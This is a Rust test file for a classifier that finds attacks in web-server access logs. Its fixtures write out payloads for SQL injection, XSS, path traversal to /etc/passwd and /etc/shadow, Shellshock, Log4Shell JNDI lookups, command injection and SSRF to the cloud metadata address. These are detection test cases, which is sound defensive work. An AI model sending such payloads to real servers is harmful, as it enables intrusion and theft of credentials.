use super::*;
use crate::format::Format;
use crate::unescape::escape;
use proptest::prelude::*;
use sha2::{Digest, Sha256};
use std::sync::LazyLock;

/// Made once: its hundred regexes take a second without optimisation.
static CLASSIFIER: LazyLock<Classifier> = LazyLock::new(Classifier::embedded);

fn line(target: &[u8], referer: &[u8], agent: &[u8]) -> Vec<u8> {
    let mut line = br#"192.0.2.7 - - [16/Nov/2026:08:00:25 +0000] "GET "#.to_vec();
    line.extend(escape(target));
    line.extend(br#" HTTP/1.1" 200 512 ""#);
    line.extend(escape(referer));
    line.extend(br#"" ""#);
    line.extend(escape(agent));
    line.push(b'"');
    line
}

fn categories(target: &str) -> Vec<&'static str> {
    let line = line(target.as_bytes(), b"-", b"Mozilla/5.0");
    let parsed = Format::Combined.parse(&line);
    let attack = CLASSIFIER.classify(parsed.access().unwrap());
    attack.map(|attack| attack.categories().iter().map(|category| category.name()).collect()).unwrap_or_default()
}

#[test]
fn a_value_that_was_clean_under_one_name_is_judged_anew_under_another() {
    let classifier = Classifier::embedded();
    let found = |query: &str| {
        let line = format!(r#"192.0.2.7 - - [16/Nov/2026:08:00:25 +0000] "GET /a.php?{query} HTTP/1.1" 200 5 "-" "-""#);
        Format::Combined.parse(line.as_bytes()).access().and_then(|access| classifier.classify(access)).is_some()
    };
    assert_eq!([found("sort=whoami"), found("cmd=whoami"), found("sort=whoami")], [false, true, false]);
}

#[test]
fn an_explanation_shows_a_layer_whole_and_people_its_beginning() {
    let line = line(format!("/?q={}%3Cscript%3E", "a".repeat(400)).as_bytes(), b"-", b"Mozilla/5.0");
    let explanation = CLASSIFIER.explain(Format::Combined.parse(&line).access().unwrap());
    let layer = explanation.views.iter().find_map(|seen| seen.layers.last().filter(|text| text.ends_with("<script>")));
    assert_eq!(layer.map(String::len), Some(408));
    assert!(explanation.to_string().contains("… (168 characters more; `--json` shows them)"), "{explanation}");
}

#[test]
fn a_number_is_looked_at_where_a_rule_looks_for_one_as_long() {
    let found = |target: &str, referer: &str| {
        let line = line(target.as_bytes(), referer.as_bytes(), b"Mozilla/5.0");
        let attack = CLASSIFIER.classify(Format::Combined.parse(&line).access().unwrap());
        attack.is_some_and(|attack| attack.categories().contains(&Category::Ssrf))
    };
    // 169.254.169.254 as one number: where a cloud keeps the keys of its machines.
    assert!(found("/img?url=2852039166", "-"));
    assert!(found("/", "http://shop.example/p?url=2852039166"));
    assert!(!found("/img?url=2852039167", "http://shop.example/p?url=1718000000000"));
}

/// So many bytes of begins of attacks, none of which is one: work for many rules.
fn begins(bytes: usize) -> String {
    "'x' select ( from -- like http: > o: {{ $ \\ ".repeat(100)[..bytes].replace(' ', "+")
}

/// The categories that are found in a line, whatever else of the line is not looked at.
fn found_in(target: &str, referer: &str, agent: &str) -> Vec<&'static str> {
    let line = line(target.as_bytes(), referer.as_bytes(), agent.as_bytes());
    let parsed = Format::Combined.parse(&line);
    let attack = CLASSIFIER.classify(parsed.access().unwrap());
    attack.map(|attack| attack.categories().iter().map(|category| category.name()).collect()).unwrap_or_default()
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0";

#[test]
fn begins_of_attacks_in_other_parameters_hide_no_attack_wherever_it_stands() {
    let climb = "../../../../etc/passwd";
    for (count, bytes) in [(1, 4_000), (4, 1_900), (14, 1_000), (50, 150)] {
        let parts =
            |from: usize| (from..from + count).map(|at| format!("&p{at}={}", begins(bytes))).collect::<String>();
        let padded = parts(0);
        let shell = found_in(&format!("/a?{padded}"), "-", "() { :; }; /bin/cat /etc/passwd");
        assert!(shell.contains(&"shellshock"), "{count} of {bytes}, then a user agent: {shell:?}");
        for target in [format!("/a?{padded}&page={climb}"), format!("/a?page={climb}{padded}")] {
            assert!(found_in(&target, "-", BROWSER).contains(&"lfi"), "{count} of {bytes}: {target}");
        }
        let middle = format!("/a?{padded}&page={climb}{}", parts(count));
        assert!(found_in(&middle, "-", BROWSER).contains(&"lfi"), "{count} of {bytes}, around it");
        let referer = format!("http://x.example/?{padded}");
        assert!(found_in(&format!("/a?page={climb}"), &referer, BROWSER).contains(&"lfi"), "{count} of {bytes}");
        let referred = found_in(&format!("/a?{padded}"), &format!("http://x.example/?page={climb}"), BROWSER);
        assert!(referred.contains(&"lfi"), "{count} of {bytes}, then a referer: {referred:?}");
    }
}

/// So many parts that there is nothing left for the last ones: what they hide is not found, that they
/// hide it is.
#[test]
fn a_line_of_very_many_begins_is_told_although_none_of_them_is_an_attack() {
    let parts: String = (0..200).map(|at| format!("&p{at}={}", begins(32))).collect();
    assert_eq!(found_in(&format!("/a?{parts}"), "-", BROWSER), ["protocol"]);
    assert_eq!(found_in(&format!("/a?{parts}&page=../../../../etc/passwd"), "-", BROWSER), ["protocol"]);
}

#[test]
fn a_line_that_is_not_looked_at_to_its_end_says_so() {
    let parts: String = (0..14).map(|at| format!("&p{at}={}", begins(1_000))).collect();
    let line = line(format!("/a?{parts}").as_bytes(), b"-", BROWSER.as_bytes());
    let parsed = Format::Combined.parse(&line);
    let access = parsed.access().unwrap();
    let verdict = CLASSIFIER.judge(access).expect("that is a line for which there is not enough time");
    assert!(!verdict.is_finished());
    let told: Vec<&str> = verdict.hits.iter().map(|hit| &*hit.rule.id).collect();
    assert_eq!(told, ["protocol-unfinished"]);
    let explanation = CLASSIFIER.explain(access);
    assert!(!explanation.is_finished && explanation.verdict == CLASSIFIER.classify(access));
    assert!(explanation.matched.iter().any(|matched| matched.finding.rule == "protocol-unfinished"));
    assert!(explanation.to_string().contains("not looked at to its end"), "{explanation}");
}

/// Eight findings are kept, and this one is not among the strongest.
#[test]
fn however_much_is_found_a_line_that_is_not_looked_at_to_its_end_says_so() {
    let attacks = "&a=1'+union+select+1,2--+&b=%3Cscript%3Ealert(1)%3C/script%3E&c=;cat+/etc/passwd\
        &d=${jndi:ldap://192.0.2.9/a}&e=../../../../etc/shadow&f=php://filter/x&g={{7*7}}&h=%3C?php+system('id')?%3E";
    let parts: String = (0..14).map(|at| format!("&p{at}={}", begins(1_000))).collect();
    let line = line(format!("/a?{attacks}{parts}").as_bytes(), b"-", BROWSER.as_bytes());
    let verdict = CLASSIFIER.judge(Format::Combined.parse(&line).access().unwrap()).unwrap();
    assert_eq!(verdict.hits.len(), FINDINGS_MAX);
    assert!(!verdict.is_finished(), "{:?}", verdict.hits);
}

#[test]
fn a_long_list_of_ids_is_looked_at_to_its_end() {
    let ids = |count: u64, digits: usize| {
        let id =
            |at: u64| format!("{:0>32x}", u128::from(at) * 0x9e37_79b9_7f4a_7c15_f39c_c060)[32 - digits..].to_owned();
        (1..=count).map(|at| format!("&ids[]={}", id(at))).collect::<String>()
    };
    // As many as Apache takes in a request line.
    for (count, digits) in [(500, 7), (300, 16), (190, 32)] {
        let list = ids(count, digits);
        assert_eq!(found_in(&format!("/a?{list}"), "-", BROWSER), [""; 0], "{count} ids of {digits} digits");
        assert!(found_in(&format!("/a?{list}&page=../../../../etc/passwd"), "-", BROWSER).contains(&"lfi"));
    }
}

#[test]
fn a_part_that_there_was_no_time_for_is_judged_when_it_comes_again() {
    let rules = rules::embedded().into_iter().filter(|rule| rule.id != "protocol-unfinished").collect();
    let classifier = Classifier::new("test".to_owned(), rules);
    let agent = format!("{};/bin/cat /srv/x", begins(3_000).replace('+', " "));
    let found = |target: &str| {
        let line = line(target.as_bytes(), b"-", agent.as_bytes());
        let parsed = Format::Combined.parse(&line);
        classifier.classify(parsed.access().unwrap()).map(|attack| attack.categories())
    };
    let parts: String = (0..14).map(|at| format!("&p{at}={}", begins(1_000))).collect();
    assert_eq!(found(&format!("/a?{parts}")), None, "that is a line for which there is not enough time");
    assert_eq!(found("/a"), Some(vec![Category::Cmdi]));
}

#[test]
fn an_attack_is_found_however_it_is_written() {
    let cases = [
        ("/?id=1' or '1'='1", "sqli"),
        ("/?id=1%27%20oR%20%271%27%3D%271", "sqli"),
        ("/?id=1%2527%2520union%2520select%2520password%2520from%2520users--%2520", "sqli"),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
        ("/?q=%253Csvg/onload=alert(1)%253E", "xss"),
        ("/?page=../../../../etc/passwd", "lfi"),
        ("/static/..%252f..%252f..%252fetc%252fpasswd", "lfi"),
        ("/a/%2e%2e%2f../%2e%2e/etc/passwd", "lfi"),
        ("/go/Li4vLi4vLi4vZXRjL3Bhc3N3ZA==/x.html", "lfi"),
        ("/?ip=127.0.0.1;cat%20/etc/passwd", "cmdi"),
        ("/?x=${jndi:ldap://192.0.2.9/a}", "log4shell"),
        ("/?x=$%7B$%7Blower:j%7Dndi:ldap://192.0.2.9/a%7D", "log4shell"),
    ];
    for (target, category) in cases {
        assert!(categories(target).contains(&category), "{target}: {:?}", categories(target));
    }
}

#[test]
fn the_rules_that_ship_are_valid() {
    let rules = rules::read(rules::EMBEDDED).unwrap_or_else(|error| panic!("{error}"));
    assert_eq!(rules.len(), CLASSIFIER.rules().len());
    for rule in &rules {
        assert!(rule.examples.iter().any(|example| !example.matches), "{} says what it is not about", rule.id);
    }
}

#[test]
fn other_rules_have_another_version() {
    let mut hash = Sha256::new();
    rules::EMBEDDED.iter().for_each(|(name, text)| hash.update(format!("{name}\n{text}")));
    let hash: String = hash.finalize().iter().take(8).map(|byte| format!("{byte:02x}")).collect();
    assert_eq!(
        hash, RULESET_HASH,
        "the rules are not those of {RULESET}: raise it if that version was released, and write `{hash}` beside it"
    );
}

/// Who the line's own site is, stands in `%v`.
#[test]
fn an_address_of_the_own_site_is_no_redirect_and_one_of_another_counts_more() {
    let found = |host: &str, request: &str, status: u16| {
        let line = format!(
            r#"{host}192.0.2.7 - - [16/Nov/2026:08:00:25 +0000] "GET {request} HTTP/1.1" {status} 5 "-" "Mozilla/5.0""#
        );
        let parsed = Format::Auto.parse(line.as_bytes());
        let attack = CLASSIFIER.classify(parsed.access().unwrap());
        attack.is_some_and(|attack| attack.categories().contains(&Category::OpenRedirect))
    };
    for (host, request, status, expected) in [
        ("shop.example:443 ", "/out?to=//login.shop.example/a", 302, false),
        ("shop.example:443 ", "/out?to=//cdn.example.net/a", 302, true),
        ("", "/out?to=//login.shop.example/a", 302, true),
        ("shop.example:443 ", "/login?next=https://shop.example/a", 302, false),
        // A partner's page is where many sites lead.
        ("shop.example:443 ", "/out?to=https://partner.example.net/", 302, false),
        // Another site with such a name, whether or not the server went along.
        ("shop.example:443 ", "/out?to=https://evil.example/", 200, true),
        ("", "/out?to=https://evil.example/", 200, false),
        ("", "/out?to=https://evil.example/", 302, true),
        ("www.evil.example:443 ", "/out?to=https://evil.example/", 302, false),
    ] {
        assert_eq!(found(host, request, status), expected, "{host}{request} {status}");
    }
}

#[test]
fn a_regex_that_is_none_is_named_with_its_rule() {
    let file = r#"
        [[rule]]
        id = "test-bracket"
        about = "A bracket."
        category = "recon"
        confidence = "low"
        score = 50
        where = ["url.query"]
        literals = ["("]
        regex = "("
        examples = ["/?q=("]
    "#;
    let error = rules::read(&[("test.toml", file)]).unwrap_err();
    assert_eq!(error.to_string(), "rule `test-bracket`: `regex` is no valid regex");
}

#[test]
fn a_word_alone_is_no_attack() {
    let targets = [
        "/search?q=drop+leaf+table",
        "/search?q=o%27reilly+sql+book",
        "/search?q=union+square+select+hotel",
        "/search?q=sleep(ing)+bag",
        "/search?q=javascript:+the+good+parts",
        "/search?q=netcat",
        "/search?q=whoami+tee",
        "/search?q=(red+or+blue)+and+wool",
        "/search?q=${price}",
        "/search?q=document.cookie",
        "/search?q=window.location",
        "/search?q=1+or+1",
        "/search?q=how+to+use+sleep(5)+in+python",
        "/search?q=sleep(8+hours)",
        "/search?q=ls+-la+meaning",
        "/search?q=sql+union+select+explained",
        "/search?q=/etc/hosts+file+explained",
        "/search?q=cat+/dog+food",
        "/search?q=how+to+use+alert(1)+in+javascript",
        "/search?q=javascript:void(0)",
        "/login?redirect=http://localhost:3000/callback",
        "/odata/Products?$filter=Name+eq+%27Milk%27+and+Price+lt+2.55",
        "/graphql?query={user(id:1){name}}",
        "/login?next=/account/settings",
        "/list?c=id",
        "/list.php?x=ls",
        "/run?cmd=whoami",
        "/search?q=cmd.exe",
        "/shop?e=net+worth",
        "/out?to=https://evilmartians.example/blog",
        "/out?to=https://www.hackerspace.example/",
        "/?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    ];
    for target in targets {
        assert_eq!(categories(target), [""; 0], "{target}");
    }
}

/// The same words where a program would run them.
#[test]
fn what_is_talked_about_is_an_attack_where_nobody_talks() {
    let targets = [
        "/search?q=%27-document.cookie-%27",
        "/search?q=fetch(x%2bdocument.cookie)",
        "/search?q=window.location=name",
        "/search?q=window.location.href=%27//e.example%27",
        "/item?id=1+or+1",
        "/item?id=sleep(5)",
        "/item?id=1+and+sleep(5)+in+python",
        "/item?id=sleep(5)+is+null",
        "/item?id=sleep(5)+is+not+null",
        "/item?id=sleep(5)--+in+python",
        "/run?x=ls+-la",
        "/run?x=cat+/flag",
        "/run?x=cat+/etc/passwd+explained",
        "/run?x=;+ls+-la+meaning",
        "/run?x=bash+-c+id+explained",
        "/item?id=1+union+select+password",
        "/item?id=-1+union+select+a,b+explained",
        "/show?page=/etc/hosts",
        "/search?q=%27;alert(1)//+in+javascript",
        "/search?q=alert(1)",
        "/search?q=alert(1)+in+javascript",
        "/out?u=javascript:void(alert(1))",
        "/fetch?redirect=http://localhost:3000/admin",
        "/fetch?redirect=http://169.254.169.254/callback",
    ];
    for target in targets {
        assert!(!categories(target).is_empty(), "{target}");
    }
}

/// Words that the rules themselves name, each as a value of the parameters that its rule looks at.
#[test]
fn no_word_that_a_rule_names_is_an_attack_by_itself() {
    let is_word = |text: &&String| text.bytes().all(|b| b.is_ascii_alphanumeric() || b" -_".contains(&b));
    let mut asked = 0;
    for rule in CLASSIFIER.rules().iter().filter(|rule| rule.fields.contains(&Field::Query)) {
        let parameters: Vec<&str> = match &rule.parameters[..] {
            [] => vec!["q", "x"],
            named => named.iter().map(String::as_str).collect(),
        };
        for word in rule.literals.iter().filter(is_word).filter(|word| !word.bytes().all(|b| b.is_ascii_digit())) {
            for parameter in &parameters {
                let target = format!("/find?{parameter}={}", word.trim().replace(' ', "+"));
                assert!(categories(&target).is_empty(), "{target}: {:?}", categories(&target));
                asked += 1;
            }
        }
    }
    assert!(asked > 1_000, "{asked} words were asked");
}

/// Texts with what is true of them: `+` for an attack, `-` for none. Each is the value of a parameter.
const TRUTH: [(&str, &str); 5] = [
    ("lines", include_str!("truth/lines.txt")),
    ("filters", include_str!("truth/filters.txt")),
    ("shell", include_str!("truth/shell.txt")),
    ("script", include_str!("truth/script.txt")),
    ("wrapped", include_str!("truth/wrapped.txt")),
];

#[test]
fn what_would_run_is_an_attack_however_it_is_dressed_and_what_looks_like_it_is_none() {
    let mut wrong = Vec::new();
    let mut told = [0, 0];
    for (name, text) in TRUTH {
        for line in text.lines().filter(|line| !line.is_empty() && !line.starts_with('#')) {
            let (is_attack, written) = match line.split_once(' ') {
                Some(("+", text)) => (true, text),
                Some(("-", text)) => (false, text),
                _ => panic!("{name}: `{line}` begins with neither `+` nor `-`"),
            };
            let sent = written.replace("\\n", "\n").replace("\\r", "\r").replace("\\t", "\t");
            let code = |byte: u8| match byte.is_ascii_alphanumeric() {
                true => char::from(byte).to_string(),
                false => format!("%{byte:02X}"),
            };
            let target = format!("/find?q={}", sent.bytes().map(code).collect::<String>());
            told[usize::from(is_attack)] += 1;
            if categories(&target).is_empty() == is_attack {
                wrong.push(line);
            }
        }
    }
    assert_eq!(wrong, [""; 0]);
    assert!(told.iter().all(|count| *count > 70), "{told:?} were told");
}

#[test]
fn a_tools_user_agent_is_told_with_low_confidence() {
    let line = line(b"/", b"-", b"sqlmap/1.8#stable (https://sqlmap.org)");
    let parsed = Format::Combined.parse(&line);
    let attack = CLASSIFIER.classify(parsed.access().unwrap()).unwrap();
    assert!(attack.categories().contains(&crate::Category::Scanner));
    assert_eq!(attack.confidence(), crate::attack::Confidence::Low);
}

#[test]
fn an_explanation_for_machines_tells_each_finding_with_the_names_that_others_give_it() {
    let target = b"/?x=${jndi:ldap://192.0.2.9/a}&q=<script>alert(1)</script>&c=;powershell+-enc+AAAA";
    let line = line(target, b"-", b"-");
    let explanation = CLASSIFIER.explain(Format::Combined.parse(&line).access().unwrap());
    let json = serde_json::to_value(&explanation).unwrap();
    let of = |rule: &str| {
        let matched = json["matched"].as_array().unwrap().iter().find(|matched| matched["rule"] == rule);
        let matched = matched.unwrap_or_else(|| panic!("{rule} is in {json:#}"));
        ["technique", "capec", "cwe", "cve"].map(|name| matched[name].to_string())
    };
    let names = [r#"["T1190"]"#, "[242]", "[917,502]", r#"["CVE-2021-44228"]"#];
    assert_eq!(of("log4shell-lookup"), names);
    // What a rule tells itself stands for what its category does.
    assert_eq!(of("cmdi-powershell"), [r#"["T1059.001"]"#, "[88]", "[78]", "null"]);
    assert!(explanation.to_string().contains("critical, ATT&CK T1059.001, CAPEC-88, CWE-78"), "{explanation}");
    assert_eq!(of("xss-markup"), [r#"["T1189","T1059.007"]"#, "[63]", "[79]", "null"]);
}

#[test]
fn a_finding_says_where_and_after_how_many_decodings() {
    let line = line(b"/p?a=1&id=1%2527%2520or%25201=1--%2520", b"-", b"-");
    let parsed = Format::Combined.parse(&line);
    let attack = CLASSIFIER.classify(parsed.access().unwrap()).unwrap();
    let first = &attack.findings[0];
    assert_eq!((first.parameter.as_deref(), first.layer), (Some("id"), 2));
    assert!(first.excerpt.contains("1' or 1=1"), "{}", first.excerpt);
}

#[test]
fn a_payload_in_a_user_agent_is_found_each_time_it_comes() {
    let lines = [&b"Mozilla/5.0"[..], b"() { :;}; /bin/id"].map(|agent| line(b"/", b"http://dev.lab/a", agent));
    for _ in 0..3 {
        let verdicts = lines.each_ref().map(|line| CLASSIFIER.classify(Format::Combined.parse(line).access().unwrap()));
        assert_eq!(verdicts.map(|verdict| verdict.is_some()), [false, true]);
    }
}

#[test]
fn hints_of_one_category_add_up_and_stay_under_a_hundred() {
    assert_eq!(noisy_or([35, 40].into_iter()), 61);
    assert_eq!(noisy_or([100, 100].into_iter()), 100);
    assert_eq!(noisy_or([].into_iter()), 0);
}

#[test]
fn an_explanation_and_a_verdict_agree() {
    let line = line(b"/?id=1'+union+select+1,2--+", b"-", b"-");
    let parsed = Format::Combined.parse(&line);
    let (classifier, access) = (&*CLASSIFIER, parsed.access().unwrap());
    let explanation = classifier.explain(access);
    let attack = classifier.classify(access).unwrap();
    let explained = |finding: &crate::Finding| explanation.matched.iter().any(|matched| matched.finding == *finding);
    assert!(attack.findings.iter().all(explained), "{explanation}");
    assert!(explanation.to_string().contains("sqli"), "{explanation}");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn no_request_makes_the_classifier_panic_or_an_excerpt_grow(
        target: Vec<u8>,
        referer in "[%0-9a-fA-F<>'\"(){}$;|&/\\\\. =+-]{0,300}",
        agent: Vec<u8>,
    ) {
        let line = line(&target, referer.as_bytes(), &agent);
        let parsed = Format::Combined.parse(&line);
        if let Some(access) = parsed.access() {
            let classifier = &*CLASSIFIER;
            let attack = classifier.classify(access);
            prop_assert_eq!(&classifier.classify(access), &attack, "known texts change nothing");
            let explanation = classifier.explain(access);
            for finding in attack.iter().flat_map(|attack| &attack.findings) {
                prop_assert!(explanation.matched.iter().any(|matched| matched.finding == *finding), "{:?}", finding);
                prop_assert!(finding.excerpt.chars().count() <= 120);
                prop_assert!(!finding.excerpt.chars().any(char::is_control));
            }
        }
    }
}

#[test]
fn headers_that_the_format_logs_are_judged_by_their_names() {
    let format: Format = r#"%h %t "%r" %>s "%{Host}i" "%{X-Forwarded-For}i" "%{Server}o""#.parse().unwrap();
    let line = |host: &str, forwarded: &str| {
        format!(
            r#"192.0.2.7 [16/Nov/2026:08:00:25 +0000] "GET / HTTP/1.1" 200 "{host}" "{forwarded}" "${{jndi:ldap://x/a}}""#
        )
    };
    let judged = |line: String| {
        let attack = CLASSIFIER.classify(format.parse(line.as_bytes()).access().unwrap());
        attack.map(|attack| (attack.findings[0].rule.clone(), attack.findings[0].parameter.clone()))
    };
    let found = |rule: &str, header: &str| Some((rule.to_owned(), Some(header.to_owned())));
    assert_eq!(judged(line("shop.example", "203.0.113.9")), None);
    assert_eq!(
        judged(line("shop.example", "${jndi:ldap://x.example/a}")),
        found("log4shell-lookup", "X-Forwarded-For")
    );
    assert_eq!(judged(line("169.254.169.254", "203.0.113.9")), found("ssrf-metadata", "Host"));
}

/// What UseCanonicalName leaves to the client is his word; `%v` is the server's.
#[test]
fn the_host_that_a_client_names_is_judged_as_its_header_would_be() {
    let judged = |directive: &str| {
        let format: Format = format!(r#"{directive} %h %t "%r" %>s"#).parse().unwrap();
        let line = br#"169.254.169.254 192.0.2.7 [16/Nov/2026:08:00:25 +0000] "GET / HTTP/1.1" 200"#;
        let attack = CLASSIFIER.classify(format.parse(line).access().unwrap());
        attack.map(|attack| (attack.findings[0].rule.clone(), attack.findings[0].parameter.clone()))
    };
    assert_eq!(judged("%V"), Some(("ssrf-metadata".to_owned(), Some("Host".to_owned()))));
    assert_eq!(judged("%v"), None);
}

#[test]
fn a_value_of_a_referer_is_decoded_as_one_of_a_request() {
    let found = |referer: &str| {
        let line = line(b"/", referer.as_bytes(), b"Mozilla/5.0");
        CLASSIFIER.classify(Format::Combined.parse(&line).access().unwrap()).is_some()
    };
    assert!(found("http://shop.example/?q=1'+union+select+1,2,3+from+users--+"));
    assert!(found("http://shop.example/?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="));
    assert!(!found("http://shop.example/?q=union+square+select+hotel"));
}
